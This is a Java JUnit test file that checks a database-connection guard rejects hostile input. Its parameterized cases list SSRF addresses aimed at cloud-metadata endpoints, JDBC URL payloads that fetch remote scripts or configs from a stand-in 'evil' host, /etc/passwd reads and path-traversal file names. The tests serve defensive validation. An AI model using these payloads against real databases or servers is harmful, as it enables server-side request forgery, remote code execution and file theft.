package dev.surveyor.connections.reach;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.surveyor.catalog.CatalogSettings;
import dev.surveyor.connections.ConnectionAddress;
import dev.surveyor.connections.ConnectionsException;
import dev.surveyor.connections.ConnectionsSettings;
import dev.surveyor.sources.SourceAddress.EncryptionMode;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.context.properties.bind.Binder;
import org.springframework.boot.context.properties.source.MapConfigurationPropertySource;

/** What people who mean harm would type; all of it is refused before a packet leaves. */
class HostileInputsTests {

    private static final String STORE = "jdbc:postgresql://127.0.0.1:5433/surveyor";

    @TempDir Path folder;

    private Path files = Path.of("");
    private Reach reach = reach(List.of("loopback", "private"), Path.of(""), new HostNames());

    @BeforeEach
    void makeFolder() throws IOException {
        files = Files.createDirectories(folder.resolve("files"));
        Files.writeString(folder.resolve("outside.db"), "secret");
        Files.createSymbolicLink(files.resolve("link.db"), folder.resolve("outside.db"));
        Files.createSymbolicLink(files.resolve("up"), folder);
        Files.createDirectory(files.resolve("folder.db"));
        reach = reach(List.of("loopback", "private"), files, new HostNames());
    }

    private static Reach reach(List<String> networks, Path folder, HostNames names) {
        Map<String, String> properties =
                Map.of(
                        "surveyor.connections.networks", String.join(",", networks),
                        "surveyor.connections.folder", folder.toString(),
                        "surveyor.catalog.url", STORE);
        Binder binder = new Binder(new MapConfigurationPropertySource(properties));
        ConnectionsSettings settings =
                binder.bindOrCreate("surveyor.connections", ConnectionsSettings.class);
        CatalogSettings catalog = binder.bindOrCreate("surveyor.catalog", CatalogSettings.class);
        return new Reach(
                names,
                new AddressRules(settings),
                new OwnStore(catalog, names),
                new DatabaseFiles(settings));
    }

    private static ConnectionAddress server(String host, int port, String database) {
        return new ConnectionAddress(
                "postgresql", host, port, database, "", "reader", EncryptionMode.PREFER, "", "");
    }

    private static ConnectionAddress file(String path) {
        return new ConnectionAddress("sqlite", "", 0, "", path, "", EncryptionMode.DISABLE, "", "");
    }

    private void connectTo(ConnectionAddress address) {
        reach.require(reach.formed(address));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // Metadata and link-local, plain and in disguise.
                "169.254.169.254",
                "169.254.0.1",
                "100.100.100.200",
                "168.63.129.16",
                "192.0.0.192",
                "fe80::1",
                "[fe80::1]",
                "fe80::1%eth0",
                "fd00:ec2::254",
                "::ffff:169.254.169.254",
                "::ffff:a9fe:a9fe",
                "::169.254.169.254",
                "64:ff9b::a9fe:a9fe",
                "64:ff9b:1::a9fe:a9fe",
                "2002:a9fe:a9fe::1",
                "2001:0:a9fe:a9fe::1",
                "::ffff:0:a9fe:a9fe",
                // Everybody and nobody.
                "0.0.0.0",
                "::",
                "255.255.255.255",
                "224.0.0.1",
                "ff02::1",
                "fec0::1",
                // Numbers that some read as addresses.
                "2130706433",
                "0x7f000001",
                "0x7f.1",
                "0177.0.0.1",
                "127.1",
                "127.0.1",
                "10.0.0.010",
                "169.254.43518",
                "0xa9.0xfe.0xa9.0xfe",
                "2852039166",
                "localhost.0x7f",
                "1.2.3.4.5",
                "256.1.1.1",
                // Outside of the networks that are allowed.
                "8.8.8.8",
                "2606:4700::1111",
                "64:ff9b::808:808",
                "100.64.0.1",
                // Things that are no host at all.
                "",
                " ",
                "local host",
                "127.0.0.1:5432",
                "127.0.0.1/db",
                "user@127.0.0.1",
                "127.0.0.1?socketFactory=x",
                "127.0.0.1,169.254.169.254",
                "/var/run/postgresql",
                "127.0.0.1\n",
                "127。0。0。1",
                "１２７.0.0.1",
                "no-such-host.invalid"
            })
    void hostsThatLeadWhereNobodyMayGoAreRefused(String host) {
        assertThatThrownBy(() -> connectTo(server(host, 5432, "shop")))
                .isInstanceOf(ConnectionsException.class)
                .hasMessageNotContaining("Exception");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgresql://r@127.0.0.1/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "postgresql://r@127.0.0.1/shop?socketFactoryArg=http://evil/x.xml",
                "postgresql://r@127.0.0.1/shop?loggerFile=/tmp/x.jsp",
                "postgresql://r@127.0.0.1/shop?loggerLevel=TRACE",
                "postgresql://r@127.0.0.1/shop?sslfactory=x",
                "postgresql://r@127.0.0.1/shop?sslrootcert=/etc/passwd",
                "postgresql://r@127.0.0.1/shop?sslpasswordcallback=x",
                "postgresql://r@127.0.0.1/shop?authenticationPluginClassName=x",
                "postgresql://r@127.0.0.1/shop?options=-c%20log_statement%3Dall",
                "postgresql://r@127.0.0.1/shop?service=x",
                "postgresql://r@127.0.0.1/shop?SSLMODE=disable",
                "postgresql://r@127.0.0.1/shop?sslmode=disable&sslmode=prefer",
                "postgresql://r@127.0.0.1/shop?sslmode=off",
                "postgresql://r@127.0.0.1/shop?user=postgres",
                "postgresql://r@127.0.0.1,169.254.169.254/shop",
                "postgresql://r@127.0.0.1:99999999/shop",
                "postgresql://r@127.0.0.1:0/shop",
                "postgresql://r@[::1%25eth0]/shop",
                "postgresql://r@127.0.0.1/shop#@169.254.169.254/",
                "postgresql://r@169.254.169.254#@127.0.0.1/shop",
                "postgresql://r@127.0.0.1@169.254.169.254/shop",
                "postgresql://r@127.0.0.1/shop/../surveyor",
                "postgresql:shop",
                "postgresql:///shop",
                "postgresql://r@127.0.0.1/%00shop",
                "postgresql://r@127.0.0.1/%zz",
                "jdbc:postgresql://127.0.0.1/shop?user=r&password=p&targetServerType=any",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:mysql://127.0.0.1/x?autoDeserialize=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "sqlite:file:x.db?mode=rwc",
                "sqlite:x.db?enable_load_extension=true",
                "ldap://127.0.0.1/x",
                "postgresql://r@127.0.0.1/shop\nHost: x"
            })
    void urlsWithMoreThanFieldsInThemAreRefused(String url) {
        assertThatThrownBy(() -> connectTo(UrlParser.parse(url).address()))
                .isInstanceOf(ConnectionsException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../outside.db",
                "link.db",
                "up/outside.db",
                "a/../../outside.db",
                "/etc/passwd",
                "folder.db",
                "no-such.db",
                "file:outside.db",
                ":memory:",
                "\u0000.db",
                "..",
                ""
            })
    void filesOutsideOfTheFolderAreRefused(String path) {
        assertThatThrownBy(() -> connectTo(file(path))).isInstanceOf(ConnectionsException.class);
    }

    static Stream<ConnectionAddress> ownStore() {
        return Stream.of("127.0.0.1", "localhost", "127.0.0.2", "::1", "::ffff:127.0.0.1")
                .map(host -> server(host, 5433, "surveyor"));
    }

    @ParameterizedTest
    @MethodSource("ownStore")
    void theOwnStoreIsRefusedByWhateverName(ConnectionAddress address) {
        assertThatThrownBy(() -> connectTo(address)).hasMessageContaining("own store");
    }

    @Test
    void aNameThatLeadsToOneBadAddressBesideGoodOnesIsRefused() {
        HostNames twoFaced =
                new HostNames() {
                    @Override
                    List<InetAddress> addresses(String host) {
                        return List.of(
                                InetAddress.ofLiteral("10.0.0.1"),
                                InetAddress.ofLiteral("169.254.169.254"));
                    }
                };
        Reach deceived = reach(List.of("private"), files, twoFaced);
        assertThatThrownBy(() -> deceived.addresses(server("two-faced.example", 5432, "shop")))
                .hasMessageContaining("always refused");
    }

    @Test
    void whatIsAllowedIsLetThrough() throws IOException {
        Files.writeString(files.resolve("shop.db"), "");
        connectTo(server("127.0.0.1", 5432, "shop"));
        connectTo(server("[::1]", 5432, "shop"));
        connectTo(server("10.1.2.3", 0, "shop"));
        connectTo(server("127.0.0.1", 5433, "shop"));
        connectTo(file("shop.db"));
        assertThat(reach.formed(server("10.1.2.3", 0, "shop")).port()).isEqualTo(5432);
        Reach open = reach(List.of("public"), files, new HostNames());
        assertThat(open.addresses(server("8.8.8.8", 5432, "shop"))).hasSize(1);
        assertThatThrownBy(() -> open.addresses(server("10.1.2.3", 5432, "shop")))
                .hasMessageContaining("surveyor.connections.networks");
    }

    @Test
    void aUrlIsTakenApartIntoFields() {
        UrlParser.Parsed parsed =
                UrlParser.parse(
                        "postgresql://r%40x:p%2Fw+1@db.example:5444/my%20shop?sslmode=require");
        assertThat(parsed.address())
                .isEqualTo(
                        new ConnectionAddress(
                                "postgresql",
                                "db.example",
                                5444,
                                "my shop",
                                "",
                                "r@x",
                                EncryptionMode.REQUIRE,
                                "",
                                ""));
        assertThat(parsed.password()).isNotNull();
        assertThat(parsed.toString()).doesNotContain("p/w+1");
    }
}
